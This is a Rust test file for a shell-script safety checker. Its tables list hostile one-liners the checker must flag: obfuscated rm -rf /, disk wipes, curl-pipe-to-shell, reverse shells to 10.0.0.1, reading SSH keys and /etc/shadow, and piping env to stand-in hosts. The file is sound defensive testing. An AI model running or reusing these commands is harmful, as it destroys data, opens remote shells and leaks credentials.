//! Scripts that each rule reports, and ordinary ones that it does not.
#![allow(clippy::too_many_lines, reason = "tables of examples")]

use super::check;
use ringfence_types::Severity::{self, Error, Info, Warning};

fn findings(code: &str) -> Vec<(&'static str, Severity)> {
    let checked = check(code);
    let mut findings: Vec<_> = checked
        .findings
        .iter()
        .map(|finding| (finding.rule.id.trim_start_matches("shell."), finding.severity))
        .collect();
    findings.sort();
    findings.dedup();
    findings
}

/// Asserts that the rule is reported with this severity, among other findings.
#[track_caller]
pub(super) fn assert_found(rule: &str, severity: Severity, codes: &[&str]) {
    for code in codes {
        let findings = findings(code);
        assert!(findings.contains(&(rule, severity)), "{code}\n{findings:?}");
    }
}

/// Asserts that no finding is more severe than this.
#[track_caller]
fn assert_at_most(severity: Severity, codes: &[&str]) {
    for code in codes {
        let findings = findings(code);
        assert!(
            findings.iter().all(|(_, found)| *found <= severity),
            "{code}\n{findings:?}"
        );
    }
}

#[rustfmt::skip]
#[test]
fn removal_of_root_is_found_in_all_spellings() {
    assert_found(
        "remove_root",
        Error,
        &[
            "rm -rf /", "rm -fr /*", "rm -r -f -- /", "rm --recursive --force /", "/bin/rm -rf /", "r\\m -rf /",
            "'r'm -rf /", "$'\\x72m' -rf /", "\"rm\" -rf \"/\"", "rm -rf ~", "rm -rf \"$HOME\"", "rm -rf ${HOME}/*",
            "rm -rf ..", "rm -rf ../*", "rm -rf /etc", "rm -rf /usr/lib /tmp/x", "rm -rf /home/*", "rm -rf //",
            "rm -rf /tmp/../", "x=rm; $x -rf /", "x=/; rm -rf \"$x\"", "a=r; b=m; $a$b -rf /", "${x:-rm} -rf /",
            "rm -rf ${dir:-/}", "sudo rm -rf /", "sudo -u root -- rm -rf /", "env A=1 rm -rf /",
            "env -i nohup nice -n 5 timeout 5 rm -rf /", "command rm -rf /", "exec rm -rf /", "busybox rm -rf /",
            "sh -c 'rm -rf /'", "bash -lc \"rm -rf /\"", "sh -c 'sh -c \"rm -rf /\"'", "eval 'rm -rf /'",
            "eval rm -rf /", "x='rm -rf /'; eval \"$x\"", "x='rm -rf /'; $x", "sh <<E\nrm -rf /\nE",
            "cat <<'E' | sh\nrm -rf /\nE", "sh <<< 'rm -rf /'", "echo 'rm -rf /' | sh", "rm${IFS}-rf${IFS}/",
            "echo / | xargs -I{} true; xargs rm -rf /", "perl -e 'system(\"rm -rf /\")'",
            "perl -e \"use Socket; system(qq(rm -rf /))\"", "python3 -c 'import os; os.system(\"rm -rf /\")'",
            "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'",
            "python3 <<E\nimport os\nos.system('rm -rf /')\nE", "ruby -e 'puts `rm -rf /`'",
            "ruby -e 'system \"rm\", \"-rf\", \"/\"'", "node -e 'require(\"child_process\").execSync(\"rm -rf /\")'",
            "php -r 'shell_exec(\"rm -rf /\");'", "awk 'BEGIN { system(\"rm -rf /\") }'", "find / -delete",
            "find / -exec rm -rf {} +", "find / -type f -exec rm {} \\;", "rm -rf --no-preserve-root x",
            "cd / && rm -rf *", "cd /\nrm -rf ./*", "if true; then (rm -rf /) fi", "f() { rm -rf /; }; f",
            "for d in / /etc; do rm -rf $d; done", "for d in /tmp/x /etc; do rm -rf \"$d\"; done",
            "true && ! false || rm -rf / &", "trap 'rm -rf /' EXIT", "alias ls='rm -rf /'", "echo \"$(rm -rf /)\"",
            "x=$((1 + $(rm -rf /)))", "cat <<E\n$(rm -rf /)\nE", "cat <(rm -rf /)", "time rm -rf /",
            "coproc rm -rf /", "[[ $(rm -rf /) ]]", "case $(rm -rf /) in *) ;; esac", "mv ~ /dev/null",
            "rsync -a --delete empty/ /", "su -c 'rm -rf /'", "env -S 'rm -rf /'", "rm \\\n -rf \\\n /",
            "env -u bash -S bash -c 'rm -rf /'",
            "find . -exec sh -c 'rm -rf /' \\;", "rm 2>/dev/null -rf /", "rm -rf /;:",
        ],
    );
    assert_at_most(
        Info,
        &[
            "rm -rf ./build", "rm -rf build dist *.egg-info", "rm -rf /tmp/work", "rm -rf \"$tmp\"",
            "rm -rf \"$(mktemp -d)\"", "rm -f core", "echo rm -rf /", "echo 'rm -rf /'", "# rm -rf /",
            "cat <<E\nrm -rf /\nE", "git rm -r /", "grep -rf / x", "rm -rf ../build/out", "docker run --rm -f /x y",
            "rm -rf /var/lib/apt/lists/*", "rm -rf node_modules && npm ci", "find . -name '*.pyc' -delete",
            "find build -type f -exec rm {} +", "d=build; rm -rf \"$d\"", "cd build && rm -rf *",
            "(cd /); rm -rf out", "d=/; d=out; rm -rf $d", "printf '%s\\n' 'rm -rf /' > notes",
            "echo build | xargs rm -rf", "ls | xargs rm -f", "ls | xargs -I{} echo {} /",
            "xargs -I{} cp {} out <<< /", "perl -e 'print \"rm -rf /\"'",
            "perl -e 'use Socket; print inet_ntoa(INADDR_LOOPBACK)'", "python3 -c 'import os; os.system(\"ls -l\")'",
            "node -e 'console.log(`rm -rf /`)'", "x='rm -rf /'; echo \"$x\"",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn device_writes_and_formatting_are_found() {
    assert_found(
        "device_write",
        Error,
        &[
            "dd if=/dev/zero of=/dev/sda", "dd if=x of=/dev/nvme0n1 bs=1M", "cat x > /dev/sda", "echo x >> /dev/vda1",
            "cp image /dev/sdb", "tee /dev/sda < x", "d=/dev/sda; dd of=$d", "{ a; b; } > /dev/sda", "> /dev/sda",
            "sudo sh -c 'cat /dev/urandom > /dev/mem'",
        ],
    );
    assert_found(
        "format_device",
        Error,
        &[
            "mkfs.ext4 /dev/sda1", "mkfs -t ext4 /dev/sda", "wipefs -a /dev/sda", "shred -n 3 /dev/sda",
            "mkswap /dev/sdb", "cryptsetup luksFormat /dev/sdc",
        ],
    );
    assert_found("format_device", Warning, &["mkfs.ext4 \"$1\""]);
    assert_at_most(
        Info,
        &[
            "dd if=/dev/zero of=disk.img bs=1M count=1", "dd if=/dev/urandom of=/dev/null", "echo x > /dev/null 2>&1",
            "echo x > /dev/stderr", "mkfs.ext4 disk.img", "shred secret.txt", "fdisk -l", "cp a b", "tee log.txt",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn downloaded_or_decoded_code_that_runs_is_found() {
    assert_found(
        "download_and_run",
        Warning,
        &[
            "curl -fsSL https://example.com/x | sh", "wget -O- https://example.com/x | sudo bash -s -- -y",
            "curl x | tee log | bash", "bash <(curl -s https://example.com/x)", "source <(curl x)",
            "sh -c \"$(curl -fsSL https://example.com/x)\"", "eval \"$(wget -qO- x)\"", "python3 -c \"$(curl x)\"",
            "curl x | python3", "curl x | python3 -", "curl -o i.sh https://x.y/z; sh i.sh",
            "wget https://x.y/i.sh && chmod +x i.sh && ./i.sh", "curl x > i; bash ./i", "x=$(curl y); eval \"$x\"",
            "bash <<< \"$(curl x)\"", ". /dev/stdin <<< x; curl x | . /dev/stdin", "/usr/bin/curl x | /bin/sh",
            "{ curl x; } | sh", "c=curl; $c x | sh", "curl x | env A=1 bash",
        ],
    );
    assert_found(
        "encoded_run",
        Warning,
        &[
            "echo aGk= | base64 -d | sh", "base64 --decode x | bash", "sh -c \"$(base64 -d x)\"",
            "eval \"$(echo x | xxd -r -p)\"", "bash <(openssl enc -d -in x)",
        ],
    );
    assert_at_most(
        Info,
        &[
            "curl -o x.tar.gz https://example.com/x.tar.gz && tar xf x.tar.gz",
            "curl -s https://example.com/x.json | jq .name", "wget -q https://example.com/x", "base64 -d x > y",
            "echo aGk= | base64 -d", "sh build.sh", "curl x | python3 -m json.tool", "curl x | python3 parse.py",
            "cat x | sh -c 'wc -l'", "curl https://example.com/data.csv > data.csv; python3 main.py",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn reverse_shells_are_found() {
    assert_found(
        "reverse_shell",
        Error,
        &[
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5",
            "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
            "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196", "nc -e /bin/sh 10.0.0.1 4444",
            "ncat --exec /bin/bash 10.0.0.1 4444", "nc -c bash 10.0.0.1 4444", "nc -lvpe /bin/sh 4444",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
            "nc 10.0.0.1 4444 | sh", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
            "socat exec:'bash -li',pty tcp:10.0.0.1:4444",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"x\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
            "perl -e 'use Socket;socket(S,2,1,6);exec(\"/bin/sh -i\")'",
            "ruby -rsocket -e 'f=TCPSocket.open(\"x\",1);exec sprintf(\"/bin/sh -i <&%d\",f)'",
            "php -r '$s=fsockopen(\"x\",1);exec(\"/bin/sh -i <&3\");'",
            "awk 'BEGIN {s = \"/inet/tcp/0/x/1\"; while (1) { s |& getline c; }}'",
            "telnet 10.0.0.1 1 | /bin/bash | telnet 10.0.0.1 2", "bash -c 'bash -i >& /dev/tcp/x/1 0>&1'",
            "python3 <<E\nimport socket, subprocess\nE",
        ],
    );
    assert_at_most(
        Info,
        &[
            "nc -z localhost 80", "echo > /dev/tcp/localhost/80", "(echo > /dev/tcp/localhost/80) && echo up",
            "python3 -c 'import socket; print(socket.gethostname())'", "perl -e 'print 1'", "ssh host uptime",
            "socat - TCP:localhost:80", "awk '{ print $1 }' x",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn permission_process_and_system_changes_are_found() {
    assert_found(
        "permissions",
        Warning,
        &[
            "chmod 777 x", "chmod -R 0777 dir", "chmod a+rwx x", "chmod o+w x", "chmod u+s x", "chmod 4755 x",
            "chown -R nobody dir", "setcap cap_net_raw+ep x", "m=777; chmod $m x",
        ],
    );
    assert_found(
        "permissions",
        Error,
        &[
            "chmod -R 777 /", "chmod -R 000 /etc", "chmod -R -x /", "chmod -R -rwx /etc", "chown -R me /", "chown -R me: ~",
        ],
    );
    assert_found(
        "kill_all",
        Error,
        &[
            "kill -9 -1", "kill -KILL -1", "kill -s KILL -1", "kill -- -1", "killall5", "pkill -9 .",
            "sudo kill -9 -1",
        ],
    );
    assert_found(
        "kill_by_name",
        Warning,
        &["killall node", "pkill -f server", "fuser -k 80/tcp"],
    );
    assert_found(
        "power",
        Warning,
        &[
            "shutdown -h now", "reboot", "halt", "poweroff", "init 0", "systemctl reboot",
            "echo b > /proc/sysrq-trigger", "/sbin/reboot -f",
        ],
    );
    assert_found(
        "schedule",
        Warning,
        &[
            "crontab -r", "crontab x", "echo '* * * * * x' | crontab -", "echo x > /etc/cron.d/y",
            "systemctl enable x", "at now + 1 minute <<< x",
        ],
    );
    assert_found(
        "system_settings",
        Warning,
        &[
            "sysctl -w a=1", "iptables -F", "mount /dev/sda1 /mnt", "umount /mnt", "modprobe x", "useradd x",
            "ip route add default via 1.2.3.4", "echo 1 > /proc/sys/net/ipv4/ip_forward",
            "echo 1.2.3.4 x >> /etc/hosts", "docker run --privileged x", "docker run -v /:/host x",
        ],
    );
    assert_at_most(
        Info,
        &[
            "chmod +x run.sh", "chmod 755 x", "chmod 644 a b", "chmod 1777 x", "chmod u=rwx,go=rx x", "chmod -x y",
            "chmod -x 777", "chmod -w -- 777",
            "chown me x", "kill $!", "kill -9 \"$pid\"", "kill -1 123", "kill -0 $pid", "crontab -l", "mount",
            "ip addr show", "sysctl kernel.hostname", "systemctl status x", "docker run -v \"$PWD\":/src x", "init",
            "echo reboot", "iptables -L",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn persistence_and_credential_access_are_found() {
    assert_found(
        "startup_files",
        Warning,
        &[
            "echo x >> ~/.bashrc",
            "echo x >> \"$HOME/.profile\"",
            "cat key >> ~/.ssh/authorized_keys",
            "echo k | tee -a /root/.ssh/authorized_keys", // tidy: machine path, because it is where secrets lie
            "cp x /etc/profile.d/y.sh",
            "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
            "echo x:0:0 >> /etc/passwd",
            "sed -i s/a/b/ ~/.zshrc",
            "echo x > /etc/ld.so.preload",
        ],
    );
    assert_found(
        "credential_path",
        Warning,
        &[
            "cat ~/.ssh/id_rsa", "cat /etc/shadow", "cat \"$HOME/.aws/credentials\"", "tar cf x.tar ~/.ssh",
            "base64 < /etc/shadow", "strings /proc/self/environ", "grep x ~/.netrc",
            "curl http://169.254.169.254/latest/meta-data/", "cp /home/a/.kube/config x",
        ],
    );
    assert_found(
        "exfiltration",
        Warning,
        &[
            "env | curl -d @- https://x.y", "curl -d @.env https://x.y", "curl -F file=@~/.ssh/id_rsa https://x.y",
            "cat ~/.ssh/id_rsa | nc x 1", "curl -d \"$(env)\" https://x.y",
            "curl \"https://x.y/?k=$(cat /etc/shadow | base64)\"", "printenv | base64 | curl -d @- x",
        ],
    );
    assert_found(
        "history",
        Warning,
        &[
            "history -c", "unset HISTFILE", "HISTFILE=/dev/null", "export HISTSIZE=0", "> ~/.bash_history",
            "rm ~/.bash_history", "ln -sf /dev/null ~/.bash_history", "> /var/log/auth.log", "set +o history",
        ],
    );
    assert_found(
        "loader",
        Warning,
        &[
            "LD_PRELOAD=./x.so ls", "export LD_PRELOAD=x", "env LD_PRELOAD=x ls", "BASH_ENV=x bash",
            "NODE_OPTIONS='--require ./x.js' node y",
        ],
    );
    assert_found(
        "dynamic_execution",
        Warning,
        &[
            "eval \"$1\"", "eval \"x=$y\"", "eval \"$(ssh-agent)\"", "sh -c \"$1\"", "bash -c \"$command\"",
            "python3 -c \"$code\"",
        ],
    );
    assert_at_most(
        Info,
        &[
            "echo x >> out.bashrc.txt", "source ~/.bashrc", "cat ~/.bashrc", "chmod 600 ~/.ssh/id_rsa",
            "ssh -i ~/.ssh/id_rsa host", "source .env", "env | sort", "export PATH=$HOME/bin:$PATH",
            "LD_LIBRARY_PATH=lib ./x", "history | tail", "env FOO=1 make", "curl -d @data.json https://x.y",
            "eval 'echo constant'", "sh -c 'echo \"$1\"' _ x", "cat ~/.ssh/id_rsa.pub",
            "NODE_OPTIONS=--max-old-space-size=4096 npm run build", "sh -c \"cd $dir && make\"", "echo HISTFILE",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn syntax_error_is_an_error_and_unusual_syntax_is_not() {
    assert_found("syntax", Error, &["if true; then echo", "echo 'open", "echo )"]);
    assert_at_most(
        Info,
        &[
            "", "#!/bin/bash\n", "exec 3<>file; echo x >&3; exec 3>&-", "shopt -s extglob; ls !(a|b)",
            "x=${y//[^a-z]/_}; z=${y%%.*}; echo ${#z} ${!z} ${z@Q}",
            "[[ $x =~ ^([0-9]+)\\.[a-z]*$ ]] && echo ${BASH_REMATCH[1]}",
            "a=([1]=b [2]='c d'); a+=(e); echo \"${a[@]:1:2}\"",
            "while IFS= read -r line; do echo \"$line\"; done < <(ls)",
            "case \"$1\" in -h|--help) usage ;; --) shift; break ;; *) : ;; esac",
            "((i++)); let j=1; for ((i = 0; i < 3; i++)); do echo $i; done",
            "f() { local x=$1; return 0; }; f \"$@\" || exit 1", "echo {1..10} {a,b}{c,d}",
            "cat > out <<-'E'\n\tx\n\tE\necho", "trap 'rm -rf \"$tmp\"' EXIT",
            "printf '%s\\n' \"${a[@]}\" | sort -u | head -n 1",
            "set -euo pipefail\ncd \"$(dirname \"${BASH_SOURCE[0]}\")\"", "x=`echo \\`date\\``",
            "echo $'a\\'b' \"a'b\" 'a\"b'", "select x in a b; do break; done", "coproc C { cat; }", "time -p sleep 0",
            "! true", "a=$(cat <<E\n)\nE\n)", "if [ -n \"$x\" -a -f y ]; then :; elif test z; then :; else :; fi",
            "function with-dash { :; }", "for x; do echo $x; done", "echo a#b # c",
        ],
    );
}

#[rustfmt::skip]
#[test]
fn analysis_counts_match_the_script() {
    let checked = check(
        "source ./lib.sh\n. /etc/os-release\nf() { :; }\nfunction g { :; }\nif a; then b; elif c; then d; fi\nwhile x; do y; done\n\
         case $1 in a) ;; b) ;; esac\na && b || c\ncurl https://api.example.com/v1\ncurl -o page.html www.example.org/x\nnc db.example.net 5432\n",
    );
    assert_eq!(checked.analysis.functions, 2);
    assert!(checked.imports.iter().eq(["./lib.sh", "/etc/os-release"]));
    assert_eq!(checked.analysis.cyclomatic_complexity, 8);
    let hosts = ["api.example.com", "db.example.net", "www.example.org"];
    assert!(checked.hosts.iter().eq(hosts));
}

#[test]
fn finding_in_a_quoted_script_has_its_own_range() {
    let place = |code: &str| {
        let checked = check(code);
        let finding = checked
            .findings
            .iter()
            .find(|finding| finding.rule.id == "shell.remove_root");
        code[finding.expect(code).range.clone()].to_owned()
    };
    assert_eq!(place("x; sh -c 'a; rm -rf /; b'"), "rm -rf /");
    assert_eq!(place("sh -c \"a; rm -rf /\""), "rm -rf /");
    assert_eq!(place("sh <<'E'\na\nrm -rf /\nE"), "rm -rf /");
    assert_eq!(place("sh -c 'sh -c \"rm -rf /\"'"), "rm -rf /");
    assert_eq!(place("x='rm -rf /'; eval \"$x\""), "eval \"$x\"");
    assert_eq!(place("a; r\\m -rf / 2>&1; b"), "r\\m -rf / 2>&1");
}

#[rustfmt::skip]
#[test]
fn hostile_scripts_end_in_time() {
    let mut doubling = "x0='eval eval'\n".to_owned();
    for step in 1..200 {
        doubling.push_str(&format!("x{step}=\"$x{0} $x{0}\"\neval \"$x{step}\"\n", step - 1));
    }
    let nested = (0..14).fold("rm -rf /".to_owned(), |text, _| format!("sh -c {text:?}"));
    for code in [
        doubling.as_str(),
        &nested,
        &"find . -exec ".repeat(5_000),
        &"sudo ".repeat(25_000),
        &"sh -c '".repeat(12_000),
        &"a | ".repeat(25_000),
        &"{a,b}".repeat(2_000),
        &"{".repeat(25_000),
        &"{a,".repeat(25_000),
        &"cd /\n".repeat(12_000),
        &"rm -rf x\n".repeat(12_000),
        &"rm -rf $x/\n".repeat(25_000),
        &"x=$(y); [ $x ]; rm -rf $z/\n".repeat(12_000),
        &"perl -e 'system(q(x'\n".repeat(12_000),
        &format!("perl -e '{}'", "system(q(".repeat(25_000)),
        &"echo / | xargs rm\n".repeat(12_000),
        &"while :; do $0 & done\n".repeat(6_000),
        &"a\r\n".repeat(25_000),
        &"x=$x$x\n".repeat(5_000),
        &"x=a\necho $x\n".repeat(5_000),
        &"f() { f | f & }\n".repeat(2_000),
        &"exec 5<>/dev/tcp/a/1\n".repeat(1_000),
        &"cat <<E\n".repeat(5_000),
        &"${x:-".repeat(25_000),
        &"a".repeat(1 << 20),
        &"'".repeat(1 << 20),
        &"\\".repeat(1 << 20),
        &"é".repeat(1 << 19),
        &"((".repeat(12_000),
        &"a((\n".repeat(12_000),
        &"x[".repeat(12_000),
    ] {
        let started = crate::processor_time::processor_time();
        check(code);
        let took = crate::processor_time::processor_time() - started;
        // Debug builds are about twenty times slower.
        assert!(took.as_secs() < 20, "{took:?} {:?}", &code[..code.len().min(30)]);
        eprintln!("{took:?} {:?}", code.get(..30.min(code.len())));
    }
}
